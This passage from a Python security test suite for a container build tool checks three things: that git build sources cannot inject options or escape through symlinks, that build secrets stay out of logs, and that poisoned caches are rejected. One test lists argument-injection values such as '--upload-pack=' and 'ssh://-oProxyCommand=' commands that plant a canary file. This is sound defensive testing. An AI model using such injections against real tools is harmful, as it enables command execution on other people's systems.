        self.assertEqual(codes.pop("direct"), "0", done.stdout + done.stderr + said)
        self.assertEqual([target for target, code in codes.items() if code == "0"], [], said)
        self.assertEqual(len(codes), len(private) + 1)

    def test_git_gets_no_options_and_no_links(self):
        """CVE-2026-33748, and options in the place of repositories and references."""
        out = str(self.canary)
        server = Server()
        self.addCleanup(server.close)
        repository = self.top / "repository"
        git = ["git", "-C", str(repository), "-c", "user.name=n", "-c", "user.email=e@example.com", "-c", "commit.gpgsign=false"]
        repository.mkdir()
        os.symlink(self.canary, repository / "sub")
        os.symlink("../" * 12 + out.lstrip("/"), repository / "up")
        environment = {**self.cooper.environment, "GIT_CONFIG_NOSYSTEM": "1"}
        for command in (["init", "-q", "-b", "main"], ["add", "."], ["commit", "-q", "-m", "one"], ["update-server-info"]):
            subprocess.run(git + command, check=True, env=environment)
        for file in (repository / ".git").rglob("*"):
            if file.is_file():
                server.files["/r.git/" + str(file.relative_to(repository / ".git"))] = file.read_bytes()
                server.files["/r.git/" + str(file.relative_to(repository / ".git")) + "?service=git-upload-pack"] = file.read_bytes()
        url = "http://%s/r.git" % server.address
        run = "touch${IFS}%s/planted" % out
        for source in (url + "#main:sub", url + "#main:up", url + "#main:../../..", url + "#--upload-pack=" + run, url + "#main:--help",
                       url + "#-x", "git@--upload-pack=%s:r.git" % run, "ssh://-oProxyCommand=%s/r.git" % run, "ssh://-oProxyCommand=%s@h/r.git" % run,
                       "git://-x/r.git", "ext::sh -c %s.git" % run, "file://%s/.git" % repository, "%s/.git" % repository,
                       "git@127.0.0.1:--upload-pack=%s.git" % run, url + "?ref=--upload-pack=" + run, url + "?subdir=sub"):
            with self.subTest(source):
                self.attack(self.context("FROM scratch\nADD [\"%s\", \"/x\"]\n" % source), GIT_SSH_COMMAND="false")
                self.attack(source, GIT_SSH_COMMAND="false")

    # -- secrets and caches

    def test_secrets_of_failed_and_talkative_steps(self):
        secret = "s3cr3t-line-one-%d\ns3cr3t-line-two-%d\n" % (os.getpid(), os.getpid())
        (given := self.top / "given").write_text(secret)
        store = self.top / "store"
        self.cooper("copy", "oci:%s/base" % self.bases, "store:" + BASE, COOPER_STORE=store)
        mounts = "RUN --mount=type=secret,id=one --mount=type=secret,id=two,env=TOKEN "
        for mode in self.modes:
            with self.subTest(mode=mode):
                context = self.context("FROM cooper-test/base\n%stest -n \"$TOKEN\" && wc -c /run/secrets/one\n%scat /run/secrets/one; "
                                       "printf %%s \"$TOKEN\"; exit 9\n" % (mounts, mounts))
                done = self.cooper("build", "--isolation", mode, "--secret", "id=one,src=%s" % given, "--secret", "id=two,env=MINE", "--log-dir", self.top / "log",
                                   context, expect=3, timeout=BOUND, COOPER_STORE=store, MINE=secret)
                for line in secret.split():
                    self.assertNotIn(line, done.out + done.err)
                    found = subprocess.run(["grep", "-rlaF", line, str(store), str(self.top / "log"), self.cooper.temporary], capture_output=True, text=True, check=False)
                    self.assertEqual(found.stdout, "")

    def test_a_cache_of_others_is_believed_only_as_far_as_its_digests(self):
        """A record whose layer is not the one that its diff ID says; layers that are cut off; and records of other steps' keys."""
        context = self.context("FROM cooper-test/base\nRUN echo honest > /honest\nRUN echo second > /second\n")
        layout = images.Layout(str(self.top / "cache"))
        shutil.rmtree(layout.path)
        self.cooper("build", "--no-cache", "--cache-to", "type=local,mode=max,dest=" + layout.path, context)
        index = json.loads((self.top / "cache" / "index.json").read_text())
        manifest = json.loads(layout.read(index["manifests"][0]["digest"]))
        records = layout.read(manifest["config"]["digest"]).decode()
        poison, diff_id = layout.layer(images.layer_tar([images.file("poisoned", "x")]))
        honest = [layer["digest"] for layer in manifest["layers"]]
        forged = records
        for layer in manifest["layers"]:
            forged = forged.replace(layer["digest"], poison["digest"]).replace('"size":%d' % layer["size"], '"size":%d' % poison["size"])
        self.assertNotEqual(forged, records)
        for name, document, layers in (("other layer", forged, [{**poison, "mediaType": manifest["layers"][0]["mediaType"]}]),
                                       ("nonsense", "{}", manifest["layers"]), ("no layers", records, [])):
            with self.subTest(name):
                fake = images.Layout(str(self.top / ("fake " + name).replace(" ", "-")))
                for digest in honest:
                    fake.blob(layout.read(digest), "")
                fake.blob(layout.read(poison["digest"]), "")
                config = fake.blob(document.encode(), manifest["config"]["mediaType"])
                fake.root(fake.blob(images.encode({**manifest, "config": config, "layers": layers}), images.MANIFEST), "latest")
                store = self.top / ("store " + name).replace(" ", "-")
                self.cooper("copy", "oci:%s/base" % self.bases, "store:" + BASE, COOPER_STORE=store)
                archive = self.top / "cached.tar"
                archive.unlink(missing_ok=True)
                done = self.cooper("build", "--cache-from", "type=local,src=%s" % fake.path, "--compression", "none", "-o", "docker-archive:%s" % archive,
                                   context, expect=None, timeout=BOUND, COOPER_STORE=store)
                self.assertIn(done.code, (0, *REFUSED), str(done))
                if done.code == 0:
                    self.assertFalse(b"poisoned" in archive.read_bytes(), str(done))
                again = self.cooper("build", "--compression", "none", "-o", "docker-archive:%s" % archive, context, timeout=BOUND, COOPER_STORE=store)
                self.assertFalse(b"poisoned" in archive.read_bytes(), str(again))


if __name__ == "__main__":
    harness.main()
